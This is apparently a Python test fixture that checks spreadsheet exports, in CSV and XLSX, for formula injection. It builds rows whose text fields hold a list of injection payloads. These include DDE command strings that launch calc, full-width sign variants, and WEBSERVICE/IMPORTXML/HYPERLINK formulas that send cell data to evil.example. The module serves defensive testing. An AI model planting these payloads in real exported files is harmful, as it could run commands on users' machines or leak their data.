"""Texts that a spreadsheet could take for something else, in every text field of every kind of file."""

import csv
import re
from collections.abc import Iterator, Mapping
from io import BytesIO, StringIO
from zipfile import ZipFile

from openpyxl import load_workbook

PAYLOADS = (
    *("=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C calc'!'A1'", '=HYPERLINK("http://evil.example","x")'),
    *('=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")', '=DDE("a","b","c")'),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "-x", "--1", "+", "-", "=", "@", "@SUM(1+1)"),
    *(
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "'=1+1",
        "''=1+1",
        "'",
        "''",
        "'quoted'",
        "= 1",
        "=\N{IDEOGRAPHIC SPACE}1",
    ),
    *(
        "a;=1+1",
        'a;"=1+1',
        "a,=1+1",
        'a",=1+1,"',
        "a;=cmd|'/C calc'!A0;b",
        'x"";=1+1',
        "a\n=1+1",
        "a\n+1+1\nb",
        "a\t=1",
    ),
    *("=A1", "=SUM(A1:A9)", "=B2&C3", "@A1", "+A1", "-A1", "=-1", '="007"', "-2+3", "=TRUE()", "=1", "＝A1"),
    *("=1+1\n=2+2", "＝1;＝2", "_x003D_1+1", "_x000D_", "<f>1+1</f>", "-5", "+81-22-217", "0012", "1e3", "TRUE"),
)
SIGNS = tuple("=+-@\t\r\n\0＝＋－＠")
NUMBER = re.compile(r"[+-]?[0-9.]+(?:[eE][+-]?[0-9]+)?(?:,|$)")  # a line of CSV that is not split begins with one, too
_TEXTS: dict[str, tuple[str, ...]] = {
    "departments": ("name_en", "name_ja"),
    "activities": ("title", "source", "partners"),
    "indicators": ("name_en", "name_ja", "definition_en", "definition_ja", "source"),
    "goals": ("phase", "note_en", "note_ja"),
    "annotations": ("text_en", "text_ja"),
    "affiliations": ("pattern",),
    "country_matrix": ("source",),
    "references": ("source",),
}
_REST: dict[str, Mapping[str, str]] = {
    "departments": {},
    "activities": {"activity_type": "publication", "start_date": "2025-04-01", "departments": "ENG"},
    "indicators": {
        "department": "ENG",
        "target": "research",
        "process": "deepening",
        "unit": "count",
        "better": "higher",
        "counts": "activities",
        "activity_types": "publication",
    },
    "goals": {"indicator": "partner_countries", "department": "ENG", "value": "-5.25", "kind": "target"},
    "annotations": {"target": "education"},
    "affiliations": {"department": "ENG"},
    "country_matrix": {"country_a": "JP", "country_b": "US", "period": "2021-2025", "papers": "7"},
    "references": {
        "indicator": "international_student_share",
        "dimension": "level",
        "stratum": "master",
        "fiscal_year": "2025",
        "numerator": "1.5",
        "denominator": "300",
    },
}


def rows_with(payloads: tuple[str, ...] = PAYLOADS) -> Iterator[tuple[str, list[dict[str, str]]]]:
    """Each kind of file with a row for each payload, which stands in all of its text fields."""
    for kind, fields in _TEXTS.items():
        yield kind, [_row(kind, fields, number, text) for number, text in enumerate(payloads)]


def fields() -> int:
    """How many text fields they stand in."""
    return sum(map(len, _TEXTS.values()))


def _row(kind: str, names: tuple[str, ...], number: int, text: str) -> dict[str, str]:
    key = {
        "departments": {"code": f"P{number}"},
        "activities": {"record_id": f"R{number}"},
        "indicators": {"key": f"own_{number}"},
        "goals": {"fiscal_year": str(2030 + number)},
        "annotations": {"date": f"20{10 + number // 12}-{1 + number % 12:02}-01"},
    }.get(kind, {})
    row = {**_REST[kind], **dict.fromkeys(names, text), **key}
    if kind == "affiliations":
        row["pattern"] = f"{text} laboratory {number}"
    if kind == "activities":
        row["partners"] = f"{text.replace(';', ' ').replace('@', ' ')} Institute @ DE"
    return row


def cells(content: bytes, ending: str, separator: str = ",") -> list[object]:
    """Every cell of every sheet, as another program opens the file, which splits CSV at a separator of its own."""
    if ending == "csv":
        text = StringIO(content.decode("utf-8-sig"), newline="")
        return [cell for row in csv.reader(text, delimiter=separator) for cell in row]
    book = load_workbook(BytesIO(content))
    filled = (cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    return [value for value in filled if value is not None]


def calculated(content: bytes, ending: str) -> list[object]:
    """The cells that begin with a sign of a formula and are no numbers, wherever a spreadsheet splits the file."""
    splits = (",", ";", "\t") if ending == "csv" else (",",)
    every = [cell for separator in splits for cell in cells(content, ending, separator)]
    return [cell for cell in every if isinstance(cell, str) and cell.startswith(SIGNS) and not NUMBER.match(cell)]


def formulas(content: bytes) -> int:
    """How many formulas a workbook has."""
    with ZipFile(BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    return sum(len(re.findall(rb"<f[ >]", sheet)) for sheet in sheets)
